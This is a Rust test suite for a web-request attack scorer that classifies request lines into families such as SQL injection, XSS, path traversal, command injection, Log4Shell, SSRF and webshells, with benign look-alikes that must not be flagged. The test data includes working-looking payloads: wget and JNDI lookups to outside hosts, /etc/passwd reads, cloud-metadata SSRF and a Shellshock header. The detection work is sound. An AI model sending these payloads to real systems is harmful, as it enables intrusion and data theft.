use proptest::prelude::*;

use super::*;

fn found(scorer: &mut Scorer, target: &str) -> Vec<Family> {
    let line = format!("GET {target} HTTP/1.1");
    let request = Request::from_line(&line).unwrap();
    scorer.score(&request).iter().map(|finding| finding.family).collect()
}

#[test]
fn families_are_found_and_the_ordinary_is_let_go() {
    let mut scorer = Scorer::default();
    for (target, family) in [
        ("/item?id=1%27%20OR%20%271%27=%271", Family::Sqli),
        ("/item?id=1+UNION+SELECT+user,password+FROM+users--", Family::Sqli),
        ("/p?q=1;SELECT+pg_sleep(10)--", Family::Sqli),
        ("/login?user[$gt]=&pass[$ne]=x", Family::Nosql),
        ("/search?q=<script>fetch(1)</script>", Family::Xss),
        ("/search?q=%3CScript%3Ealert(1)%3C/script%3E", Family::Xss),
        ("/search?q=%22%20onmouseover=%22alert(1)", Family::Xss),
        ("/a?u=%26%23x6a;avascript:alert(1)", Family::Xss),
        ("/download?file=../../../etc/hosts", Family::Traversal),
        ("/img/..%2F..%2Fetc%2Fpasswd", Family::Traversal),
        ("/x/..%c0%af..%c0%afboot.ini", Family::Traversal),
        ("/view?file=/etc/passwd", Family::Traversal),
        ("/.env", Family::Traversal),
        ("/site/.git/config", Family::Traversal),
        ("/db.sql.gz", Family::Traversal),
        ("/ping?host=1.1.1.1;cat+/etc/hosts", Family::Rce),
        ("/ping?host=1.1.1.1%0Awget%20http://203.0.113.9/x", Family::Rce),
        ("/ping?host=%60id%60", Family::Rce),
        ("/a?x=php://filter/convert.base64-encode/resource=index", Family::Php),
        ("/a?x=%3C%3Fphp%20phpinfo();", Family::Php),
        ("/a?x=O:6:%22Logger%22:1:%7Bs:4:%22file%22;s:1:%22x%22;%7D", Family::Php),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Family::Php),
        ("/a?x=%25%7B(%23_memberAccess)%7D", Family::Java),
        ("/a?class.module.classLoader.resources.context.parent=x", Family::Java),
        ("/a?x=$%7Bjndi:ldap://203.0.113.1/a%7D", Family::Log4shell),
        ("/?x=${${lower:j}ndi:ldap://x/a}", Family::Log4shell),
        ("/a?__proto__[admin]=1", Family::Code),
        ("/a?x=require('child_process').exec('id')", Family::Code),
        ("/a?name={{7*7}}", Family::Template),
        ("/a?name=%3C%25=%207*7%20%25%3E", Family::Template),
        ("/fetch?url=http://169.254.169.254/latest/meta-data/", Family::Ssrf),
        ("/fetch?url=http://127.0.0.1:6379/", Family::Ssrf),
        ("/fetch?url=gopher://10.0.0.1:25/_x", Family::Ssrf),
        ("/a?page=http://203.0.113.9/shell.txt?", Family::Rfi),
        ("/a?user=*)(uid=*))(%7C(uid=*", Family::Ldap),
        ("/a?q=x'%5D%20%7C%20//user/node()%5B'a", Family::Xml),
        ("/a?x=1%0d%0aSet-Cookie:%20a=b", Family::Protocol),
        ("/a?x=index.php%00.png", Family::Protocol),
        ("/uploads/c99.php", Family::Webshell),
        ("/images/shell.php?cmd=id", Family::Webshell),
    ] {
        assert!(found(&mut scorer, target).contains(&family), "{target}: {:?}", found(&mut scorer, target));
    }
    for target in [
        "/",
        "/search?q=black+and+white",
        "/search?q=o%27neil+%26+sons",
        "/search?q=what+is+union+select+in+law",
        "/static/script.js?v=1.2.3",
        "/docs/../docs/index.html",
        "/shop?category=cats;sort=price",
        "/a?utm_source=x&utm_campaign=Feed:+a/b+(a.com+-+Jordan)",
        "/list?C=D;O=A",
        "/api/v1/items?fields=id,name&sort=-date&limit=10",
        "/calc?expr=2%2B2%3D4",
        "/a?filter[name]=x&filter[tags][]=y",
        "/p?text=I+like+you!&price=%24100+(net)",
        "/user/.well-known/change-password",
        "/.well-known/acme-challenge/abc",
        "/powershell.html",
        "/a?redirect=%2Faccount%2Fsettings%3Ftab%3D1",
        "/a?date=2026-01-01T00:00:00%2B01:00",
        "/a?q=c%2B%2B+std::string",
        "/a?json=%7B%22a%22:1,%22b%22:%5B1,2%5D%7D",
        "/a?q=time+warner+cable",
        "/a?q=javascript+tutorial",
        "/a?q=how+to+use+the+python+eval+function",
        "/a?msg=Don%27t+panic!+It%27s+only+5%25+off",
        "/select/options/from/menu",
        "/~user/home.html",
        "/a?email=first.last%2Btag@example.org",
        "/a?callback=jQuery123_456&_=789",
        "/a?name=%D0%98%D0%B2%D0%B0%D0%BD&city=K%C3%B6ln",
        "/a?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_",
    ] {
        assert_eq!(found(&mut scorer, target), [], "{target}");
    }
    let flagged: Vec<_> = super::ordinary::ORDINARY
        .iter()
        .map(|target| (*target, found(&mut scorer, target)))
        .filter(|(_, families)| !families.is_empty())
        .collect();
    assert_eq!(flagged, []);
}

#[test]
fn scanners_name_themselves_and_browsers_do_not() {
    let mut scorer = Scorer::default();
    let mut of_agent = |agent: &str| {
        let request = Request { path: "/".into(), user_agent: Some(agent.into()), ..Request::default() };
        scorer.score(&request).first().map(|finding| finding.family)
    };
    for agent in
        ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Mozilla/5.0 zgrab/0.x"]
    {
        assert_eq!(of_agent(agent), Some(Family::Scanner), "{agent}");
    }
    assert_eq!(of_agent("() { :;}; /bin/eject"), Some(Family::Rce));
    assert_eq!(of_agent("${jndi:ldap://203.0.113.1/a}"), Some(Family::Log4shell));
    for agent in [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0 Safari/537.36",
        "Mozilla/5.0 (Linux;U;Android 4.1;en) GSA/3.2",
        "curl/7.81.0",
        "Wget",
        "python-requests/2.31.0",
        "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)",
        "Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots",
        "IrssiUrlLog/0.2",
        "-",
    ] {
        assert_eq!(of_agent(agent), None, "{agent}");
    }
}

#[test]
fn every_signature_compiles_and_names_literals_in_lower_case() {
    for (index, signature) in SIGNATURES.iter().enumerate() {
        assert!(COMPILED.pattern(index).find(b"").is_none(), "{}", signature.name);
        assert!(!signature.needs.is_empty(), "{}", signature.name);
        assert!(signature.weight > 0 && signature.parts > 0, "{}", signature.name);
        for need in signature.needs {
            assert!(!need.is_empty() && *need == need.to_ascii_lowercase(), "{}: {need}", signature.name);
        }
    }
}

#[test]
fn every_literal_opens_the_gate() {
    for signature in SIGNATURES {
        for need in signature.needs.iter().filter(|need| !OPENED_OTHERWISE.contains(need)) {
            let opens = need.len() > 1 || is_special(need, &SPECIAL_TABLE);
            assert!(opens, "{}: {need}", signature.name);
        }
    }
}

/// Pieces of attacks, encodings and prose in any order.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "\\PC{0,6}",
        proptest::sample::select(vec![
            "' or ",
            "1=1",
            "\"",
            "`",
            "$(",
            "${",
            "{{7*7}}",
            "union select ",
            "sleep(5)",
            "/*",
            "*/",
            "/*!50000",
            "--",
            "#",
            ";cat /etc/passwd",
            "|id",
            "w''g\"et ",
            "\\x41",
            "\\u00",
            "%",
            "%2",
            "%u0027",
            "%c0%ae",
            "%00",
            "&#x3c;",
            "&lt",
            "<script ",
            " onerror=",
            "../",
            "..\\",
            "@@",
            "::int",
            "->",
            "é",
            "\u{ff1c}",
            "?a=",
            "&b=",
            "\\",
            "$a ",
            "sudo ",
            "time -p ",
            "é'é",
            "$@",
            "0x",
        ])
        .prop_map(str::to_owned),
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn any_request_is_scored_alike_twice(target in pieces(), header in pieces(), body in pieces()) {
        let (path, query) = target.split_once('?').unwrap_or((&target, ""));
        let request = Request {
            path: path.into(),
            query: Some(query.into()),
            user_agent: Some(header.as_str().into()),
            referer: Some(header.as_str().into()),
            cookie: Some(header.as_str().into()),
            body: Some(body.as_str().into()),
            status: Some(404),
            ..Request::default()
        };
        let mut scorer = Scorer::default();
        let findings = scorer.score(&request);
        for finding in &findings {
            prop_assert!(finding.score >= u32::from(ENOUGH) && !finding.hits.is_empty());
            prop_assert!(finding.hits.iter().all(|hit| hit.fragment.len() <= 2 * FRAGMENT_BYTES_MAX));
        }
        scorer.score_line(&target);
        scorer.score_message(&header);
        prop_assert_eq!(scorer.score(&request), findings);
    }
}
